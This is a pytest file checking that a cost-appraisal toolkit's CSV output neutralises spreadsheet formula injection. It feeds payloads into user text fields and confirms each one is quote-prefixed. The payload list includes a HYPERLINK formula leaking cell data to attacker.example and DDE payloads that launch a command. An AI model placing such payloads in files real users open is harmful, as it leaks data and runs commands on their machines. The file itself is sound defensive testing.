"""Every CSV the toolkit writes is safe to open in a spreadsheet (issue 13, item 5).

OWASP "CSV Injection": a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is evaluated by Excel, LibreOffice and Google Sheets; the
recommendation is to prefix it with a single quote (ASVS 5.0 requirement 1.2.10 adds
NUL). Before this change 786 of 968 formula-like payload cells reached the CSVs
unprefixed. Each probe puts one payload in one user text field, runs the case, and
reads back every CSV of the run (``run`` and ``uncertainty``): no text cell starts with
a trigger, numbers stay numbers, and ``--csv-raw`` gives the text exactly.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from appraisal.outputs.csv_safe import TRIGGERS

REPO = Path(__file__).resolve().parents[2]
MINIMAL = (REPO / "data" / "examples" / "minimal.yaml").read_text(encoding="utf-8")

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+44 20 7946 0000",
    "-",
    "@",
    "=",
]
# Fields that reach a CSV: (YAML to replace, how the payload is put in)
FIELDS = {
    "option-name": lambda p: MINIMAL.replace("New service", _q(p)),
    "line-name": lambda p: MINIMAL.replace("name: Avoided costs", f"name: {_q(p)}"),
    "category": lambda p: MINIMAL.replace("kind: benefit", f"kind: benefit\n    category: {_q(p)}"),
    "source": lambda p: MINIMAL.replace("kind: cost", f"kind: cost\n    source: {_q(p)}"),
}
# tab and carriage return may start a free text (not a name); a CR is refused in any text
TAB_FIELDS = {
    "category-tab": lambda: MINIMAL.replace("kind: benefit",
                                            'kind: benefit\n    category: "\\t=1+1"'),
    "source-tab": lambda: MINIMAL.replace("kind: cost", 'kind: cost\n    source: "\\t@SUM(A1)"'),
}


def _q(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _cells(folder: Path) -> list[tuple[str, str]]:
    found = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                found += [(path.name, cell) for cell in row]
    return found


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _run(tmp_path: Path, text: str, *extra: str) -> Path:
    from appraisal.cli.commands import main

    case = tmp_path / "case.yaml"
    case.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", str(case), "--out", str(out), *extra]) == 0
    return out


def _assert_inert(cells: list[tuple[str, str]], payload: str) -> None:
    live = [(f, c) for f, c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    assert live == [], live[:5]
    assert any(c == "'" + payload for _, c in cells), "the payload is not kept (with its quote)"


@pytest.mark.parametrize("field", sorted(FIELDS))
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_payload_reaches_no_csv_live(tmp_path, capsys, payload, field):
    out = _run(tmp_path, FIELDS[field](payload))
    capsys.readouterr()
    _assert_inert(_cells(out), payload)


@pytest.mark.parametrize("field", sorted(TAB_FIELDS))
def test_a_leading_tab_is_neutralised(tmp_path, capsys, field):
    out = _run(tmp_path, TAB_FIELDS[field]())
    capsys.readouterr()
    cells = _cells(out)
    payload = "\t=1+1" if field == "category-tab" else "\t@SUM(A1)"
    _assert_inert(cells, payload)


def test_numbers_stay_numbers(tmp_path, capsys):
    """The minimal case's incremental NPSV of the counterfactual is negative: written as is."""
    out = _run(tmp_path, MINIMAL)
    capsys.readouterr()
    cells = _cells(out)
    negatives = [c for _, c in cells if c.startswith("-") and _is_number(c)]
    assert negatives, "expected negative numbers in the tables"
    assert not any(c.startswith("'-") and _is_number(c[1:]) for _, c in cells)


def test_csv_raw_writes_the_text_exactly(tmp_path, capsys):
    payload = "=1+1"
    out = _run(tmp_path, FIELDS["option-name"](payload), "--csv-raw")
    capsys.readouterr()
    cells = [c for _, c in _cells(out)]
    assert payload in cells
    assert "'" + payload not in cells


def test_uncertainty_tables_are_neutralised(tmp_path, capsys):
    from appraisal.cli.commands import main

    payload = "@SUM(1+1)"
    text = MINIMAL.replace("New service", _q(payload)) + (
        "uncertainty:\n  draws: 50\n  seed: 3\n  inputs:\n    - name: '=cost'\n"
        "      target: {kind: cost}\n      field: scale\n"
        "      distribution: {dist: uniform, low: 0.9, high: 1.2}\n")
    case = tmp_path / "case.yaml"
    case.write_text(text, encoding="utf-8")
    out = tmp_path / "unc"
    assert main(["uncertainty", str(case), "--out", str(out)]) == 0, capsys.readouterr().err
    capsys.readouterr()
    cells = _cells(out)
    live = [(f, c) for f, c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    assert live == []
    assert any(c == "'=cost" for _, c in cells)
